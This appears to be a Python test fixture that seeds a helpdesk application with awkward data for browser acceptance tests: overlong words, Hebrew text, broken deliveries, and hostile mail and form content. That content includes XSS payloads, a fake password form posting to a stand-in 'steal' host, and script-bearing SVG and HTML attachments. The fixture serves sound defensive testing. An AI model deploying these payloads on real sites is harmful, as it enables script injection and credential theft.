"""Awkward data that every page must bear: hostile names, very long words, other scripts, damage."""

from dataclasses import dataclass

from sqlalchemy import select

from ingest.intake import Arrival, Intake, Transport
from ingest.processing.process import process_waiting
from parsers.item import Format
from tests.acceptance.browser.fortnight import ME, SUNRISE, Desk
from tests.acceptance.browser.messages import HEADINGS, make_form, make_mail
from tests.support.context import HandClock
from tests.support.workbooks import build_book
from workflow.audit.webhook_events import EventType
from workflow.context import AppContext
from workflow.models.core import Contact, Message, OutgoingMail, Staff, StoredAttachment
from workflow.models.states import OutboxState, WebhookEventState
from workflow.models.webhooks import WebhookEvent
from workflow.tickets import saved_views
from workflow.webhooks import deliver

SCRIPT = "<img src=x onerror=\"window.name='owned'\"><script>window.name='owned'</script>"
LONG = "Donaudampfschifffahrtsgesellschaftskapitän" * 6
HEBREW = "מרפאת השרון לבריאות המשפחה"
FAKE_LINK = f"https://elsewhere.example/{LONG}?u=http%3A%2F%2Flast.example%2F"
EVIL = f"""<h1 style="position:fixed;top:0;left:0;width:9999px">Sign in again</h1>{SCRIPT}
<form action="http://elsewhere.example/steal"><input name="password"><button>Go</button></form>
<img src="http://elsewhere.example/pixel.gif"><a href="javascript:alert(1)">here</a>
<a href="{FAKE_LINK}">clinic.example</a>
<style>@import url("http://elsewhere.example/x.css");
body {{ background: url("http://elsewhere.example/b.png") }}</style>
<iframe src="http://elsewhere.example/"></iframe><svg onload="window.name='owned'"></svg>"""
SVG = b'<svg xmlns="http://www.w3.org/2000/svg"><script>window.name="owned"</script></svg>'
PAGE = b"<!doctype html><script>window.name='owned'</script>"


REPORT = f"""From: MAILER-DAEMON@mx.example
Subject: {LONG}
MIME-Version: 1.0
Content-Type: multipart/report; report-type=delivery-status; boundary=b

--b

{SCRIPT} {LONG}
--b
Content-Type: message/delivery-status

Action: failed
--b--
""".encode()


HOSTILE_ROWS = build_book(
    ["Message ID", "From", "Practice", "Subject", "Message"],
    ["1", SCRIPT, LONG, f"{SCRIPT} {LONG}", f"{LONG} {SCRIPT}"],
)


def build_hostile_mail() -> bytes:
    """A mail whose every part would like to run in the browser of who reads it."""
    files = (
        ("picture.svg", "image/svg+xml", SVG),
        ("invoice.pdf.html", "text/html", PAGE),
        (f"{LONG}.eml", "application/eml", f"Subject: {LONG} {SCRIPT}\n\n{SCRIPT} {LONG}".encode()),
        (f"{LONG}.xlsx", "application/octet-stream", HOSTILE_ROWS),
    )
    return make_mail(
        (SCRIPT, "mallory@evil.example"), f"{SCRIPT} {LONG}", f"{SCRIPT}\n{LONG}\n", EVIL, files
    )


@dataclass(frozen=True)
class HostileData:
    """The numbers of what a test wants to look at."""

    hostile: int
    long: int
    unmapped: int  # a delivery: a workbook with headings nobody knows
    automatic: int  # a ticket whose only message looks automatic
    linked: int  # the message of the hostile ticket, which has FAKE_LINK
    attached_message: int  # numbers of its files
    attached_rows: int


def add(app_context: AppContext, clock: HandClock) -> HostileData:
    """All of it, on the desk that is there."""
    desk = Desk(app_context, clock)
    with app_context.store.transaction() as session:
        deliver.create_webhook(
            app_context,
            session,
            f"https://crm.example/{'a' * 300}",
            list(EventType),
            by=ME,
            now=app_context.clock(),
        )
    hostile = desk.receive_mail(build_hostile_mail())
    desk.receive_form(
        make_form(
            SCRIPT, ("Eve Null", "eve@evil.example"), SCRIPT, LONG, **{SCRIPT: LONG, LONG: SCRIPT}
        )
    )
    assigned_ticket = desk.receive_form(
        make_form(
            LONG,
            (LONG[:90], "long@" + "a" * 60 + ".example"),
            LONG,
            f"{LONG} " * 30,
            Phone="5" * 60,
        )
    )
    desk.receive_form(
        make_form(
            HEBREW, ("דנה כהן", "dana@sharon.example"), "החזר תשלום 2026", "שלום, התשלום לא הגיע."
        )
    )
    desk.assign(ME, assigned_ticket)
    desk.add_note(assigned_ticket, f"{SCRIPT} {LONG}")
    desk.complete(
        desk.receive_mail(make_mail((HEBREW, "dana@sharon.example"), "תודה", "תודה רבה")),
        ME,
        1,
        f"{SCRIPT} {LONG}",
    )
    automatic = desk.receive_mail(
        make_mail((LONG[:60], "news@list.example"), "Newsletter", SCRIPT, precedence="bulk")
    )
    Intake(app_context).accept(
        Arrival(transport=Transport.SMTP, format=Format.MAIL, raw=REPORT, envelope={})
    )
    process_waiting(app_context)
    unmapped_delivery = _add_broken_deliveries(app_context)
    with app_context.store.transaction() as session:
        me = session.scalars(select(Staff).where(Staff.name == ME)).one()
        saved_views.save_view(session, me, SCRIPT[:60], "view=open", now=app_context.clock())
        session.scalars(
            select(Contact).where(Contact.email == "mallory@evil.example")
        ).one().unreachable = True
        last = session.scalars(select(OutgoingMail).order_by(OutgoingMail.id.desc()).limit(3)).all()
        for mail, state in zip(
            last, (OutboxState.WAITING, OutboxState.REFUSED, OutboxState.BOUNCED), strict=True
        ):
            mail.state, mail.reason = state, f"550 {LONG}"[:200]
        event = session.scalars(select(WebhookEvent).order_by(WebhookEvent.id)).first()
        assert event is not None
        event.state, event.attempts, event.reason = (
            WebhookEventState.GIVEN_UP,
            52,
            "no answer within ten seconds",
        )
    with app_context.store.read_only() as session:
        mails = select(Message.id).where(Message.ticket_id == hostile, Message.direction == "in")
        linked = session.scalars(mails).one()
        files = select(StoredAttachment.id).where(StoredAttachment.message_id == linked)
        *_, attached_message, attached_rows = session.scalars(files.order_by(StoredAttachment.id))
    return HostileData(
        hostile=hostile,
        long=assigned_ticket,
        unmapped=unmapped_delivery,
        automatic=automatic,
        linked=linked,
        attached_message=attached_message,
        attached_rows=attached_rows,
    )


def _add_broken_deliveries(app_context: AppContext) -> int:
    """Deliveries that failed, and a workbook with rows that are no requests.

    The one that waits for a map.
    """
    strange = build_book(
        ["Datum", LONG[:200], SCRIPT, "Nr"], ["5/1/2026 10:00", "Nordklinik", "Hilfe", 7]
    )
    arrivals = [
        (Format.FORMSTACK, b"{ not json"),
        (Format.SECURE_MESSAGE, b"PK\x03\x04 broken"),
        (Format.SECURE_MESSAGE, strange),
        (
            Format.SECURE_MESSAGE,
            build_book(
                HEADINGS,
                ["A-1", "2026-03-02 09:30", SUNRISE, "", "", "", ""],
                ["A-2", "2026-03-02", SUNRISE, "Pat", "pat@x.example", "Claims", SCRIPT],
            ),
        ),
    ]
    numbers = [
        Intake(app_context).accept(
            Arrival(transport=Transport.FOLDER, format=kind, raw=raw, envelope={"name": SCRIPT})
        )
        for kind, raw in arrivals
    ]
    process_waiting(app_context)
    return numbers[2]
